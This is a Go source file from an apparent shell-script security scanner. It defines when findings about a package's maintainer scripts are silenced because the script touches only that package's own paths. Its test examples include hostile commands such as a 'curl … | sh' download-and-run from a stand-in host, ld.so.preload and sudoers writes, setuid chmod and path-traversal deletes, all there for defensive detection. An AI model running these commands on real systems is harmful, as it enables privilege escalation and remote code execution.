package rules

import (
	"path"
	"strings"
	"sync"

	"github.com/guardsh/guardsh/parse"
)

// A package's maintainer script acting on its own package's files (issue
// 12, a file scan only). dpkg, rpm and the nfpm/fpm hooks run a package's
// postinst, prerm … as root to finish installing THAT package: create its
// system user, its /etc/PKG, /var/lib/PKG and /var/log/PKG, install its
// init script and unit, link its binary into /usr/bin, restart its daemon,
// and on a purge remove its data. What such a script does to its own
// package's paths is what installing the package means; a reviewer of the
// packaging wants what reaches beyond it: trust (keys, CA stores, package
// sources), sudoers, PAM, accounts other than its own system user,
// ld.so.preload, other packages' files, users' homes, downloads and remote
// code, secrets. Those stay reported (every rule not named with a Quiet
// here stays: fail closed).
//
// The contract applies only when scan.Maintainer recognised the file by
// its path (check FILE, never check -c, --batch, the prompt or a hook
// event) and maintNames found exactly the package's names; and only to a
// command each of whose paths is an own path of the package (maintOwnPath:
// static, absolute, without .., a whole path component equal to the name),
// with no symlink or hard link of the script making an own path point
// elsewhere (maintLinked). A package named like a security-critical
// program (maintDenied: sudo, openssh-server, libpam-*, systemd, shadow …)
// gets no contract: its own files ARE the system's security.
//
// maintEntries is that decision rule family by rule family, in imageRule's
// shape (maintRule); the examples are run as a maintainer script of package "jellyfin"
// (a postinst; "removal" lines as its postrm) and as a plain script: a
// NoMatch line is quiet in the first and reported in the second, a Match
// line reported in both.
func maintEntries() []maintRule {
	return []maintRule{
		{
			Rules: []string{"system-config-write", "files-overwrite-outside"},
			Quiet: maintWrite,
			Why: "the package's own configuration, init script, unit, defaults file and the link to its own binary; " +
				"a trust store, package source or keyring stays even under its own name",
			Match: []string{"cp sudoers.conf /etc/sudoers.d/jellyfin", "cp x.list /etc/apt/sources.list.d/jellyfin.list",
				"cp init.sh /etc/init.d/jellyfinx", "ln -sf /tmp/x /usr/bin/jellyfin", "cp -f init.sh /etc/init.d/../init.d/cron",
				"echo x > /etc/ld.so.preload", "cp jellyfin.conf /etc/nginx/conf.d/jellyfin.conf"},
			NoMatch: []string{"cp -f /usr/lib/jellyfin/init.sh /etc/init.d/jellyfin", "cp /usr/lib/jellyfin/jellyfin.service /lib/systemd/system/jellyfin.service",
				"cp /etc/jellyfin/jellyfin.conf.sample /etc/jellyfin/jellyfin.conf", "ln -sf /usr/lib/jellyfin/bin/jellyfin /usr/bin/jellyfin",
				"echo 'JELLYFIN_OPTS=' > /etc/default/jellyfin"},
		},
		{
			Rules: []string{"rm-absolute", "rm-recursive", "find-delete", "xargs-rm", "logs-erase"},
			Quiet: maintDelete,
			Why: "the package's old init script, unit, cache and run files; its data and configuration (/etc/PKG, /var/lib/PKG, /var/log/PKG, /opt/PKG) " +
				"only when it is removed (postrm, prerm: a purge asked for it) — deleting them in a postinst loses the admin's data on an upgrade",
			Match:   []string{"rm -rf /var/lib/jellyfin", "rm -rf /etc/jellyfin", "rm -rf /var/lib/jellyfin/db", "rm -f /var/lib/jellyfin/*", "rm -f /var/lib/jellyfin", "rm -f /var/lib/jellyfin/../dpkg/status", "rm -f /etc/init.d/cron", "rm -rf /var/log/jellyfin", "rm -rf /var/lib/jellyfin-data"},
			NoMatch: []string{"rm -f /etc/init.d/jellyfin", "rm -f /etc/systemd/system/jellyfin.service", "rm -f /var/lib/jellyfin/.restartOnUpgrade", "rm -rf /var/cache/jellyfin/*", "removal: rm -rf /var/lib/jellyfin /var/log/jellyfin"},
		},
		{
			Rules:   []string{"chmod-recursive-system", "chown-root"},
			Quiet:   maintMode,
			Why:     "owners and modes of the package's own directories; -L or -H follows links the service user can plant there, so it stays",
			Match:   []string{"chown -R -L jellyfin:jellyfin /var/log/jellyfin", "chown -R jellyfin /var/lib", "chown -R jellyfin /var/lib/jellyfin/.*", "chown -R jellyfin $DIR"},
			NoMatch: []string{"chown -R jellyfin:jellyfin /var/lib/jellyfin /var/log/jellyfin", "chmod -R 750 /var/cache/jellyfin"},
		},
		{
			Rules:   []string{"service-stop"},
			Quiet:   maintService,
			Why:     "restarting or stopping the package's own service on an upgrade or a removal; another service stays",
			Match:   []string{"systemctl stop ssh", "systemctl restart jellyfin nginx", "service cron stop", "systemctl --user stop jellyfin"},
			NoMatch: []string{"systemctl restart jellyfin", "service jellyfin restart", "systemctl stop jellyfin.socket", "/bin/systemctl stop jellyfin.service"},
		},
		// ── Reported as everywhere (listed for the reader). ──
		{
			Rules: []string{"privilege-grant", "downgrade-sudo-nopasswd", "package-key-trust", "packages-add-source", "trust-ca-add", "remote-code", "download-run",
				"credential-file-write", "chmod-world-writable", "chmod-setuid"},
			Why: "groups and sudo rules, trust, downloads, users' homes and world-writable or setuid modes reach beyond the package, even on its own paths",
			Match: []string{"usermod -aG docker jellyfin", "curl -fsSL https://x.example/i.sh | sh", "chmod 4755 /usr/lib/jellyfin/helper",
				"chmod -R 777 /var/lib/jellyfin", "echo 'export X=1' >> /root/.bashrc"},
		},
	}
}

// maintDenied lists packages whose own files are the system's security
// (authentication, privilege, trust, the init system, the loader, the
// package manager): a maintainer script of one of them gets no contract.
// A name matches an entry exactly, or an entry ending in "*" as a prefix.
// Each entry is a must-deny example of TestMaintDenied. (A function: no
// table built at start-up.)
func maintDenied() []string {
	return []string{
		"sudo", "sudo-*", "doas", "opendoas", "su", "login", "passwd", "shadow", "shadow-utils", "base-passwd", "adduser", "util-linux",
		"openssh*", "ssh", "ssh-*", "dropbear*", "pam", "libpam*", "pam-*", "polkit*", "policykit*", "sssd*", "krb5*", "libnss*", "nss*", "nslcd", "ldap*",
		"systemd*", "init", "init-system-helpers", "sysvinit*", "udev", "dbus*", "cron", "cronie", "anacron", "at",
		"libc6*", "libc-bin", "glibc*", "musl*", "coreutils", "bash", "dash", "zsh", "busybox*", "base-files", "debianutils", "kmod",
		"apt", "apt-*", "dpkg", "rpm", "dnf", "yum", "zypper", "apk-tools", "pacman", "debian-archive-keyring", "ubuntu-keyring", "gnupg*", "gpg*",
		"ca-certificates*", "openssl", "libssl*", "ssl-cert", "apparmor*", "selinux*", "audit", "auditd", "iptables", "nftables", "ufw", "firewalld",
		"docker", "docker-*", "docker.io", "containerd*", "runc", "podman", "cri-o", "lxc", "lxd", "snapd", "flatpak",
	}
}

// maintDeniedName reports a package name maintDenied holds.
func maintDeniedName(n string) bool {
	if maintSystemName(n) { // pred_redteam7.go
		return true
	}
	for _, d := range maintDenied() {
		if p, ok := strings.CutSuffix(d, "*"); ok && strings.HasPrefix(n, p) || n == d {
			return true
		}
	}
	return false
}

// maintNames returns the names of the package a maintainer script belongs
// to, or nil when the contract does not apply: the names its path gives
// (parse.Package.Names) — with a build-time template token the script
// declares as its system user or service (jenkins.postinst's
// @@ARTIFACTNAME@@) as another spelling of it; else the one name the
// script itself declares (update-rc.d NAME, deb-systemd-helper VERB
// NAME.service, chkconfig --add NAME, systemctl enable NAME, adduser
// --system NAME …), none when it declares none or two. A denied name
// (maintDeniedName) turns the contract off.
func maintNames(res *parse.Result) []string {
	pk := res.Package
	if pk == nil {
		return nil
	}
	declared := map[string]bool{}
	for _, c := range res.Commands {
		for _, n := range maintDeclared(c) {
			declared[n] = true
		}
	}
	names := append([]string(nil), pk.Names...)
	if len(names) > 0 {
		for n := range declared {
			if templateToken(n) {
				names = append(names, n)
			}
		}
	} else {
		for n := range declared {
			if !templateToken(n) {
				names = append(names, n)
			}
		}
		if len(names) != 1 {
			return nil
		}
	}
	for _, n := range names {
		if maintDeniedName(n) {
			return nil
		}
	}
	return names
}

// templateToken reports a build-time placeholder such as @@ARTIFACTNAME@@
// (jenkins' packaging substitutes it when it builds the package).
func templateToken(s string) bool {
	t, ok := strings.CutPrefix(s, "@@")
	if !ok {
		return false
	}
	t, ok = strings.CutSuffix(t, "@@")
	if !ok || t == "" {
		return false
	}
	for _, r := range t {
		if !(r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_') {
			return false
		}
	}
	return true
}

// unitName returns the package-like name of a unit or init script operand
// (jellyfin.service, jellyfin@.service, jellyfin): the name without its unit
// suffix, or "" for anything else.
func unitName(v string) string {
	for _, s := range []string{".service", ".socket", ".timer", ".path"} {
		if b, ok := strings.CutSuffix(v, s); ok {
			v = b
			break
		}
	}
	v = strings.TrimSuffix(v, "@")
	if templateToken(v) || len(v) > 1 && parse.ValidPackage(v) {
		return v
	}
	return ""
}

// maintDeclared returns the names a command of a maintainer script
// declares as its package's service or system user.
func maintDeclared(c *parse.Command) []string {
	ops := staticOperands(c)
	switch c.Name() {
	case "update-rc.d", "invoke-rc.d":
		if len(ops) > 0 {
			return []string{unitName(ops[0])}
		}
	case "deb-systemd-helper":
		if len(ops) > 1 {
			return unitNames(ops[1:])
		}
	case "chkconfig":
		if len(ops) > 0 && (hasArg(c, "--add") || len(ops) == 2 && (ops[1] == "on" || ops[1] == "off")) {
			return []string{unitName(ops[0])}
		}
	case "systemctl":
		if len(ops) > 1 {
			switch ops[0] {
			case "enable", "is-enabled", "unmask", "preset", "reenable":
				return unitNames(ops[1:])
			}
		}
	case "db_get", "db_set", "db_input", "db_fget", "db_fset", "db_register", "db_unregister", "db_subst", "db_reset", "db_clear", "db_metaget":
		// debconf: a package's own questions are named PACKAGE/QUESTION
		// (its templates file; shared/… are everyone's).
		for _, o := range ops {
			if n, _, ok := strings.Cut(o, "/"); ok && n != "shared" && parse.ValidPackage(n) {
				return []string{n}
			}
		}
	case "adduser", "useradd", "addgroup", "groupadd":
		if !hasArg(c, "--system") && !hasArg(c, "-r") {
			return nil
		}
		if n := accountName(c); n != "" {
			return []string{n}
		}
	}
	return nil
}

// unitNames maps unitName over names, dropping what is none.
func unitNames(vs []string) []string {
	var out []string
	for _, v := range vs {
		if n := unitName(v); n != "" {
			out = append(out, n)
		}
	}
	return out
}

// hasArg reports a static argument equal to s.
func hasArg(c *parse.Command, s string) bool {
	for _, w := range c.Args[1:] {
		if w.Static && w.Value == s {
			return true
		}
	}
	return false
}

// staticOperands returns the words after the program that do not start
// with "-", while they are static; it stops at the first dynamic word.
func staticOperands(c *parse.Command) []string {
	var out []string
	for _, w := range c.Args[min(1, len(c.Args)):] {
		if !w.Static {
			break
		}
		if !strings.HasPrefix(w.Value, "-") {
			out = append(out, w.Value)
		}
	}
	return out
}

// accountOpt reports an option of adduser, useradd, addgroup or groupadd
// that takes a value.
func accountOpt(v string) bool {
	switch v {
	case "--home", "--shell", "--ingroup", "--gecos", "--uid", "--gid", "--firstuid", "--lastuid", "--firstgid", "--lastgid", "--conf", "--comment",
		"--home-dir", "--skel", "--groups", "--password", "--base-dir", "--root", "--prefix", "--expiredate", "--inactive", "--key",
		"-c", "-d", "-e", "-f", "-g", "-G", "-k", "-K", "-p", "-s", "-u", "-b", "-R", "-P":
		return true
	}
	return false
}

// accountName returns the one static account operand of an adduser-like
// command, or "".
func accountName(c *parse.Command) string {
	var ops []parse.Word
	for i := 1; i < len(c.Args); i++ {
		w := c.Args[i]
		if w.Static && strings.HasPrefix(w.Value, "-") {
			if accountOpt(w.Value) {
				i++
			}
			continue
		}
		ops = append(ops, w)
	}
	if len(ops) != 1 || !ops[0].Static {
		return ""
	}
	if n := ops[0].Value; templateToken(n) || parse.ValidPackage(n) {
		return n
	}
	return ""
}

// A maintForm is one shape of a package's own path, with N standing for
// the package's name.
type maintForm struct {
	// Path is the path with N for the name.
	Path string
	// Tree is set when what lies below Path is the package's too.
	Tree bool
	// Data is set for the admin's configuration and the package's data:
	// deleting it is own business only in a removal script.
	Data bool
	// Link is set for a name in a program directory: own only as the
	// name of a link the script makes to the package's own file.
	Link bool
}

// buildMaintForms returns the own paths of a package N. TestMaintOwnPath
// runs their examples (maintPathCases).
func buildMaintForms() []maintForm {
	fs := []maintForm{
		{Path: "/etc/N", Tree: true, Data: true}, {Path: "/var/lib/N", Tree: true, Data: true}, {Path: "/var/log/N", Tree: true, Data: true},
		{Path: "/opt/N", Tree: true, Data: true}, {Path: "/var/log/N.log"},
		{Path: "/var/cache/N", Tree: true}, {Path: "/run/N", Tree: true}, {Path: "/var/run/N", Tree: true}, {Path: "/usr/share/N", Tree: true},
		{Path: "/usr/lib/N", Tree: true}, {Path: "/usr/libexec/N", Tree: true}, {Path: "/usr/share/doc/N", Tree: true},
		{Path: "/etc/default/N"}, {Path: "/etc/sysconfig/N"}, {Path: "/etc/init.d/N"}, {Path: "/etc/rc.d/init.d/N"}, {Path: "/etc/init/N.conf"},
		{Path: "/var/run/N.pid"}, {Path: "/run/N.pid"},
	}
	for _, d := range []string{"/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system"} {
		for _, s := range []string{".service", "@.service", ".socket", ".timer"} {
			fs = append(fs, maintForm{Path: d + "/N" + s}, maintForm{Path: d + "/N" + s + ".d", Tree: true})
		}
	}
	for _, d := range []string{"/usr/bin", "/usr/sbin", "/usr/local/bin", "/bin", "/sbin"} {
		fs = append(fs, maintForm{Path: d + "/N", Link: true})
	}
	return fs
}

// maintPath is how an own path matched.
type maintPath int

const (
	notOwn  maintPath = iota
	ownPath           // the package's own path
	ownData           // its data or configuration (maintForm.Data)
	ownLink           // a name in a program directory (maintForm.Link)
)

// maintOwnPath says whether v is an own path of a package named one of
// names: static, absolute, no .. component, no glob that could reach
// another name (a glob in the name's own component, or one starting with
// a dot: .* matches ..), and a whole path component equal to the name.
func maintOwnPath(w parse.Word, names []string) maintPath {
	v := w.Value
	if !w.Static || !strings.HasPrefix(v, "/") {
		return notOwn
	}
	parts := strings.Split(v, "/")
	for _, p := range parts {
		if p == ".." || strings.HasPrefix(p, ".") && strings.ContainsAny(p, "*?[") || strings.HasPrefix(p, "[") {
			return notOwn
		}
	}
	v = path.Clean(v)
	for _, n := range names {
		for _, f := range maintForms() {
			p := strings.Replace(f.Path, "N", n, 1)
			if v == p || f.Tree && strings.HasPrefix(v, p+"/") {
				if strings.ContainsAny(v[:min(len(v), len(p))], "*?[") {
					return notOwn // the glob is in the name's part
				}
				switch {
				case f.Link:
					return ownLink
				case f.Data:
					return ownData
				}
				return ownPath
			}
		}
	}
	return notOwn
}

// maintCtx is the contract for one input: the package's names and the
// links that make it unsafe.
type maintCtx struct {
	names   []string
	removal bool
}

// newMaintCtx returns the contract for res, or nil when it does not
// apply.
func newMaintCtx(res *parse.Result) *maintCtx {
	names := maintNames(res)
	if names == nil {
		return nil
	}
	m := &maintCtx{names: names, removal: res.Package.Removal}
	if m.linked(res) {
		return nil
	}
	return m
}

// linked reports a link the script makes at an own path of the package
// that points elsewhere (ln -s /etc/shadow /var/lib/pkg/x; a hard link;
// cp -s or -l; mount --bind): a later chown or write of the own path
// would reach the other file. The whole script then gets no contract.
func (m *maintCtx) linked(res *parse.Result) bool {
	for _, c := range res.Commands {
		var src []parse.Word
		var dst parse.Word
		switch c.Name() {
		case "ln":
			ops := args(c, "-t", "--target-directory", "-S", "--suffix").operands
			if len(ops) == 0 {
				continue
			}
			src, dst = ops[:max(1, len(ops)-1)], ops[len(ops)-1]
		case "cp":
			a := args(c, "-t", "--target-directory", "-S", "--suffix")
			if !a.short['l'] && !a.short['s'] && !a.has("link") && !a.has("symbolic-link") || len(a.operands) < 2 {
				continue
			}
			src, dst = a.operands[:len(a.operands)-1], a.operands[len(a.operands)-1]
		case "mount":
			if !strings.Contains(c.String(), "bind") && !hasArg(c, "-B") && !hasArg(c, "--rbind") {
				continue
			}
			ops := args(c, "-o", "-t", "--options", "--types").operands
			if len(ops) < 2 {
				continue
			}
			src, dst = ops[:1], ops[len(ops)-1]
		default:
			continue
		}
		if m.own(dst) == notOwn && dst.Static {
			continue
		}
		for _, s := range src {
			if k := m.own(s); k == notOwn || k == ownLink {
				return true
			}
		}
	}
	return false
}

// own says how w is an own path of the package.
func (m *maintCtx) own(w parse.Word) maintPath { return maintOwnPath(w, m.names) }

// maintHits drops, for a command of a maintainer script, the matching
// rules whose findings say only what the script does to its own package.
func maintHits(hits []*Rule, c *parse.Command, m *maintCtx) []*Rule {
	if m == nil || c.Remote || c.Contained || viaRemote(c) {
		return hits
	}
	out := hits[:0]
	for _, r := range hits {
		if q := maintQuiet()[r.ID]; q != nil && r.Tier != Hardline && q(c, m) {
			continue
		}
		out = append(out, r)
	}
	return out
}

// A maintRule is one entry of maintEntries: imageRule's shape, with a
// Quiet that sees the package.
type maintRule struct {
	Rules          []string
	Quiet          func(*parse.Command, *maintCtx) bool
	Why            string
	Match, NoMatch []string
}

// The table, its Quiet functions by rule id and the own-path forms, built
// on first use (a sync.Once costs no allocation at start-up).
var (
	maintOnce   sync.Once
	maintRows   []maintRule
	maintQuiets map[string]func(*parse.Command, *maintCtx) bool
	maintShapes []maintForm
)

func buildMaint() {
	maintRows = maintEntries()
	maintShapes = buildMaintForms()
	maintQuiets = map[string]func(*parse.Command, *maintCtx) bool{}
	for _, e := range maintRows {
		if e.Quiet == nil {
			continue
		}
		for _, id := range e.Rules {
			maintQuiets[id] = e.Quiet
		}
	}
}

// maintTable returns the table.
func maintTable() []maintRule { maintOnce.Do(buildMaint); return maintRows }

// maintQuiet maps a rule id to its Quiet function.
func maintQuiet() map[string]func(*parse.Command, *maintCtx) bool {
	maintOnce.Do(buildMaint)
	return maintQuiets
}

// maintForms returns the own-path forms.
func maintForms() []maintForm { maintOnce.Do(buildMaint); return maintShapes }

// maintTargets returns the paths a command changes, and false when it
// has a word guardsh cannot place (a dynamic operand, an option it does
// not know that could hide one).
func maintTargets(c *parse.Command) ([]parse.Word, bool) {
	var out []parse.Word
	for _, r := range c.Redirs {
		if !r.Writes() {
			continue
		}
		if v := r.Target.Value; r.Target.Static && (v == "/dev/null" || v == "/dev/stdout" || v == "/dev/stderr" || !strings.HasPrefix(v, "/") && !strings.Contains(v, "/") && v != "" && v[0] >= '0' && v[0] <= '9') {
			continue
		}
		out = append(out, r.Target)
	}
	a := args(c, "-t", "--target-directory", "-S", "--suffix", "-m", "--mode", "-o", "--owner", "-g", "--group", "-e", "--expression", "-f", "--file", "--reference")
	ops := a.operands
	switch c.Name() {
	case "echo", "printf", "cat", "true", ":":
		return out, true // they print their words or read files: only the redirections write
	case "cp", "install", "ln":
		if t, ok := a.value("target-directory"); ok {
			out = append(out, parse.Word{Value: t, Static: !strings.ContainsAny(t, "$`")})
		} else if t, ok := a.shortVal['t']; ok {
			out = append(out, t)
		} else if c.Name() == "install" && a.short['d'] {
			out = append(out, ops...)
		} else if len(ops) > 0 {
			out = append(out, ops[len(ops)-1])
		}
		if c.Name() == "ln" {
			// The link's target must be the package's own too.
			if len(ops) > 1 {
				out = append(out, ops[:len(ops)-1]...)
			}
		}
		return out, true
	case "chown", "chgrp", "chmod":
		if len(ops) > 0 && !a.has("reference") {
			ops = ops[1:] // the owner or the mode
		}
	case "sed":
		if _, e := a.shortVal['e']; !e && !a.has("expression") && !a.has("file") && a.shortVal['f'].Value == "" && len(ops) > 0 {
			ops = ops[1:] // the script
		}
	case "find":
		var starts []parse.Word
		for _, w := range c.Args[1:] {
			if v := w.Value; w.Static && (strings.HasPrefix(v, "-") || v == "(" || v == "!") {
				break
			}
			starts = append(starts, w)
		}
		return append(out, starts...), true
	}
	return append(out, ops...), true
}

// maintAll reports a command whose every changed path is an own path
// accepted by ok.
func maintAll(c *parse.Command, m *maintCtx, ok func(parse.Word, maintPath) bool) bool {
	ts, known := maintTargets(c)
	if !known || len(ts) == 0 {
		return false
	}
	for _, w := range ts {
		if !ok(w, m.own(w)) {
			return false
		}
	}
	return true
}

// maintWrite: a write, copy or link whose targets are all own paths (a
// name in a program directory only as a link to the package's own file),
// none a trust path (runnerTrust).
func maintWrite(c *parse.Command, m *maintCtx) bool {
	ln := c.Name() == "ln"
	return maintAll(c, m, func(w parse.Word, k maintPath) bool {
		if underAny(w, runnerTrust) {
			return false
		}
		return k == ownPath || k == ownData || k == ownLink && ln
	})
}

// maintDelete: a delete of own paths; of the package's data only in a
// removal script, but for one file below its data directory (rm -f
// /var/lib/NAME/.restartOnUpgrade: the package's own marker or state file,
// not the tree that holds the admin's data).
func maintDelete(c *parse.Command, m *maintCtx) bool {
	file := (c.Name() == "rm" || c.Name() == "unlink") && !args(c).has("r", "R", "recursive")
	return maintAll(c, m, func(w parse.Word, k maintPath) bool {
		return k == ownPath || k == ownData && (m.removal || file && m.belowData(w))
	})
}

// belowData reports a path strictly below a data root of the package
// (/var/lib/NAME/x, not /var/lib/NAME), with no glob.
func (m *maintCtx) belowData(w parse.Word) bool {
	v := path.Clean(w.Value)
	if strings.ContainsAny(v, "*?[") {
		return false
	}
	for _, n := range m.names {
		for _, f := range maintForms() {
			if p := strings.Replace(f.Path, "N", n, 1); f.Data && f.Tree && strings.HasPrefix(v, p+"/") {
				return true
			}
		}
	}
	return false
}

// maintMode: an owner or mode change of own paths that follows no link
// (-L, -H, --dereference with -R).
func maintMode(c *parse.Command, m *maintCtx) bool {
	for _, w := range c.Args[1:] {
		if v := w.Value; w.Static && strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.ContainsAny(v, "LH") || v == "--dereference" {
			return false
		}
	}
	return maintAll(c, m, func(_ parse.Word, k maintPath) bool { return k == ownPath || k == ownData })
}

// maintService: stopping or restarting only the package's own service
// (systemctl, service, invoke-rc.d, deb-systemd-invoke, update-rc.d,
// chkconfig, /etc/init.d/NAME).
func maintService(c *parse.Command, m *maintCtx) bool {
	ops := staticOperands(c)
	var units []string
	switch c.Name() {
	case "systemctl", "deb-systemd-invoke":
		for _, w := range c.Args[1:] {
			if !w.Static {
				return false
			}
			if v := w.Value; strings.HasPrefix(v, "-") && v != "--no-block" && v != "--system" && v != "-q" && v != "--quiet" && v != "--now" {
				return false // -H HOST, --user, -M machine …
			}
		}
		if len(ops) < 2 {
			return false
		}
		units = ops[1:]
	case "service", "invoke-rc.d", "update-rc.d", "chkconfig":
		if len(ops) < 1 {
			return false
		}
		units = ops[:1]
	default:
		if m.own(parse.Word{Value: c.Args[0].Value, Static: c.Args[0].Static}) == notOwn || !strings.Contains(c.Args[0].Value, "/init.d/") {
			return false
		}
		return true
	}
	for _, u := range units {
		n := unitName(u)
		if n == "" || !contains(m.names, n) {
			return false
		}
	}
	return true
}
